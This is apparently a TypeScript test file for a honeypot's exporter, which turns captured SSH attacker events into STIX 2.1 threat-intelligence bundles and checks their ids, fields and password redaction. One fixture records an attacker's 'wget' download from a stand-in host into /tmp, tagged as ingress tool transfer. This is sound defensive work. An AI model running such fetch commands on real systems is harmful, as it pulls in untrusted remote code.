import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sampleBoot } from '../../../test/fixtures/events.ts';
import type { DecoyEvent } from '../../model/event.ts';
import { formats } from './formats.ts';
import { commandType, observable, type StixObject, stixOf } from './stix.ts';

const { next } = sampleBoot('pot-1');

function bundleOf(events: readonly DecoyEvent[]): { readonly objects: readonly StixObject[] } & StixObject {
  const writer = formats.stix((value) => JSON.stringify(value));
  return JSON.parse(events.map((one) => writer.next(one)).join('') + writer.end());
}

const timestamp = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?Z$/;
const uuid = '[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}';

/** What the schemas of STIX 2.1 require of these types, by hand. */
const required: Readonly<Record<string, readonly string[]>> = {
  identity: ['created', 'modified', 'name'],
  'extension-definition': [
    'created',
    'modified',
    'created_by_ref',
    'name',
    'schema',
    'version',
    'extension_types',
  ],
  'observed-data': [
    'created',
    'modified',
    'first_observed',
    'last_observed',
    'number_observed',
    'object_refs',
  ],
  'ipv4-addr': ['value'],
  'ipv6-addr': ['value'],
  'domain-name': ['value'],
  url: ['value'],
  'network-traffic': ['protocols', 'src_ref'],
  'user-account': ['account_login'],
  file: ['hashes'],
  [commandType]: ['value', 'extensions'],
};

function validate(objects: readonly StixObject[]): void {
  const ids = new Set(objects.map((one) => one.id));
  assert.equal(ids.size, objects.length, 'each object is there once');
  for (const object of objects) {
    const { type, id } = object;
    assert.match(id, new RegExp(`^${type}--${uuid}$`));
    assert.equal(object.spec_version, '2.1');
    for (const name of required[type] ?? assert.fail(type))
      assert.notEqual(object[name], undefined, `${type}.${name}`);
    for (const [name, value] of Object.entries(object)) {
      assert.match(name, /^[a-z0-9_]{3,250}$|^id$/);
      assert.ok(
        value !== null && value !== '' && (!Array.isArray(value) || value.length > 0),
        `${type}.${name}`,
      );
      if (/^(?:created|modified)$/.test(name)) assert.match(String(value), /\.\d{3}Z$/);
      if (/_observed$/.test(name) && name !== 'number_observed') assert.match(String(value), timestamp);
      if (name.endsWith('_ref')) assert.ok(ids.has(String(value)), `${type}.${name}`);
      if (name.endsWith('_refs'))
        for (const one of value as string[]) assert.ok(ids.has(one), `${type}.${name}`);
    }
    for (const extension of Object.keys((object.extensions as object | undefined) ?? {}))
      assert.ok(ids.has(extension));
  }
}

const download = next({
  type: 'ssh.file.put',
  ts: '2026-11-20T10:00:00.123456Z',
  attack: ['T1105'],
  norm: {
    urls: ['http://example.invalid/a'],
    hosts: ['example.invalid', '203.0.113.9', '2001:db8::9'],
    commands: ['wget http://example.invalid/a', 'id'],
  },
  data: {
    user: 'root',
    password: 'p4ss-w0rd',
    artefacts: [{ name: '/tmp/a', sha256: 'cd'.repeat(32), size: 3 }],
  },
});

describe('identifiers', () => {
  it('are those that others derive', () => {
    // From the tests and the documentation of the OASIS library for Python (cti-python-stix2).
    const file = observable('file', {
      name: 'example.exe',
      hashes: { 'SHA-256': '841a8921140aba50671ebb0770fecc4ee308c4952cfeff8de154ab14eeef4649' },
      extensions: {
        'windows-pebinary-ext': {
          pe_type: 'exe',
          machine_hex: '014c',
          sections: [
            {
              name: '.data',
              size: 4096,
              entropy: 7.980693,
              hashes: { 'SHA-256': '6e3b6f3978e5cd96ba7abee35c24e867b7e64072e2ecb22d0ee7a6e6af6894d0' },
            },
          ],
        },
      },
    });
    assert.equal(file.id, 'file--ced31cd4-bdcb-537d-aefa-92d291bfc11d');
    const address = observable('ipv4-addr', { value: '198.51.100.3' });
    assert.equal(address.id, 'ipv4-addr--28bb3599-77cd-5a82-a950-b5bc3caf07c4');
  });
});

describe('events in STIX', () => {
  it('are a bundle that holds what it refers to, once each', () => {
    const events = [
      download,
      next({ type: 'ssh.exec', norm: { commands: ['id'] } }),
      next({ from: '2001:db8::7' }),
    ];
    const { type, id, objects } = bundleOf(events);
    assert.equal(type, 'bundle');
    assert.match(id, new RegExp(`^bundle--${uuid}$`));
    validate(objects);
    assert.equal(objects.filter((one) => one.type === 'observed-data').length, 3);
  });

  it('are observed data of everything that they show', () => {
    const objects = stixOf(download);
    const of = (type: string): StixObject[] => objects.filter((one) => one.type === type);
    assert.deepEqual(
      of('ipv4-addr').map((one) => one.value),
      ['198.51.100.7', '203.0.113.9'],
    );
    assert.deepEqual(of('ipv6-addr')[0]?.value, '2001:db8::9');
    assert.deepEqual(of('domain-name')[0]?.value, 'example.invalid');
    assert.deepEqual(of('url')[0]?.value, 'http://example.invalid/a');
    assert.deepEqual(
      of(commandType).map((one) => one.value),
      ['wget http://example.invalid/a', 'id'],
    );
    const [file] = of('file');
    assert.deepEqual([file?.name, file?.size, file?.hashes], ['a', 3, { 'SHA-256': 'cd'.repeat(32) }]);
    const [traffic] = of('network-traffic');
    assert.deepEqual(traffic?.protocols, ['ipv4', 'tcp', 'ssh']);
    assert.equal(traffic?.src_ref, of('ipv4-addr')[0]?.id);
    assert.deepEqual([traffic?.src_port, traffic?.dst_port], [40_000, 6379]);
    assert.equal(of('user-account')[0]?.account_type, 'unix');
    const [observed] = of('observed-data');
    assert.deepEqual(observed?.labels, ['honeypot', 'ssh.file.put']);
    assert.deepEqual(observed?.external_references, [{ source_name: 'mitre-attack', external_id: 'T1105' }]);
    assert.equal(observed?.created, '2026-11-20T10:00:00.123Z');
    assert.equal(observed?.first_observed, '2026-11-20T10:00:00.123456Z');
  });

  it('have the same ids whenever they are told', () => {
    assert.deepEqual(stixOf(download), stixOf(structuredClone(download)));
  });

  it('do not tell the password, nor where the sensor is', () => {
    const text = JSON.stringify(stixOf(download));
    assert.doesNotMatch(text, /p4ss-w0rd|192\.0\.2\.1"/);
  });

  it('of the sensor itself have no traffic', () => {
    const nowhere = { ip: '0.0.0.0', port: 0 };
    const types = stixOf({ ...next({ type: 'sensor.gap' }), src: nowhere, dst: nowhere }).map(
      (one) => one.type,
    );
    assert.deepEqual(types, ['identity', 'ipv4-addr', 'observed-data']);
  });

  it('that are none are a bundle without a list', () => {
    const empty = bundleOf([]);
    assert.equal(empty.type, 'bundle');
    assert.equal('objects' in empty, false);
  });
});
